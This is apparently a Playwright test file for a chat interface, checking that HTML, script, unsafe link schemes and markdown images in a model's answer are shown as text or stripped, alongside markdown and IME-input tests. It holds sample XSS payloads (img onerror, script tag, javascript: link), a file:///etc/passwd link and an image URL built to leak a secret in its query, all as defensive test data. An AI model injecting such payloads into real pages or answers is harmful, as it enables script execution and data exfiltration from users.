"""Model output is data: HTML and script in an answer are shown as text, never run."""

from playwright.sync_api import Page, expect

from tests.support.browser import screenshot
from tests.support.processes import ServerProcess

PAYLOAD = (
    'look <img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script> '
    '<a href="javascript:window.__pwned=3">link</a>'
)


def test_html_and_script_in_an_answer_are_shown_as_text(
    page: Page, fake_stack: ServerProcess
) -> None:
    page.goto(fake_stack.url)
    page.fill("#input", PAYLOAD)
    page.press("#input", "Enter")
    answer = page.locator("#messages .message.assistant")
    expect(answer).to_have_count(1)
    # The fake engine answers "You said: <the message>": the markup arrives as model output.
    expect(answer).to_contain_text("<img src=x onerror=")
    expect(answer).to_contain_text("<script>window.__pwned=2</script>")
    assert page.locator("#messages img, #messages script").count() == 0
    for link in page.locator("#messages a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    page.locator("#messages a").first.click() if page.locator("#messages a").count() else None
    assert page.evaluate("window.__pwned") is None
    screenshot(page, "05-untrusted-output")


def test_markdown_is_rendered(page: Page, fake_stack: ServerProcess) -> None:
    page.goto(fake_stack.url)
    page.fill("#input", "**bold** and `code`")
    page.press("#input", "Enter")
    answer = page.locator("#messages .message.assistant")
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("code")).to_have_text("code")


def test_enter_during_ime_composition_does_not_send(page: Page, fake_stack: ServerProcess) -> None:
    page.goto(fake_stack.url)
    page.fill("#input", "にほんご")
    # The Enter that confirms a Japanese IME conversion arrives with isComposing=true.
    page.dispatch_event("#input", "keydown", {"key": "Enter", "isComposing": True, "bubbles": True})
    page.dispatch_event("#input", "keydown", {"key": "Enter", "keyCode": 229, "bubbles": True})
    page.wait_for_timeout(300)
    expect(page.locator("#messages .message")).to_have_count(0)
    expect(page.locator("#input")).to_have_value("にほんご")
    page.press("#input", "Shift+Enter")
    expect(page.locator("#messages .message")).to_have_count(0)
    page.press("#input", "Enter")
    expect(page.locator("#messages .message.user")).to_have_count(1)


def test_links_in_an_answer_open_apart_and_only_to_the_web_or_mail(
    page: Page, fake_stack: ServerProcess
) -> None:
    page.goto(fake_stack.url)
    page.fill(
        "#input",
        "[web](https://example.com/a) [mail](mailto:a@example.com) "
        "[data](data:text/html,hello) [file](file:///etc/passwd) [rel](/api/conversations)",
    )
    page.press("#input", "Enter")
    answer = page.locator("#messages .message.assistant")
    expect(answer.locator("a")).to_have_count(5)
    for text in ("web", "mail"):
        link = answer.locator("a", has_text=text)
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert answer.locator("a", has_text="web").get_attribute("href") == "https://example.com/a"
    for text in ("data", "file", "rel"):
        assert answer.locator("a", has_text=text).get_attribute("href") is None


def test_an_image_in_an_answer_is_never_loaded(page: Page, fake_stack: ServerProcess) -> None:
    # The guide page may show the docs' own images; a model's answer may not: an image there
    # would fetch a URL the model chose (a tracking pixel, or the conversation in its query).
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    page.goto(fake_stack.url)
    page.fill("#input", "see ![chart](http://127.0.0.1:9/leak?secret=plans) here")
    page.press("#input", "Enter")
    answer = page.locator("#messages .message.assistant")
    expect(answer).to_contain_text("here")
    assert page.locator("#messages img").count() == 0
    assert not [url for url in fetched if "/leak" in url]
